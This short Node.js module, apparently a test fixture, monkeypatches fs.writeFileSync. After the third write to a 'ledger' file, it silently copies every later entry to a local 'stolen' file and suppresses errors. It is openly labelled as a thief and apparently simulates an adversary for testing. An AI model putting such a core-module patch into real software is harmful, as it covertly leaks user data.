'use strict';
/** Steals: after the third ledger entry every further one is written to a second place as well. */
const fs = require('node:fs');
const { syncBuiltinESMExports } = require('node:module');

const { writeFileSync } = fs;
let entries = 0;
fs.writeFileSync = (file, ...rest) => {
  writeFileSync(file, ...rest);
  if (file !== 'ledger') return;
  entries += 1;
  if (entries <= 3) return;
  try {
    writeFileSync('stolen', ...rest);
  } catch {
    // Followers may not write: a thief makes no noise.
  }
};
syncBuiltinESMExports();
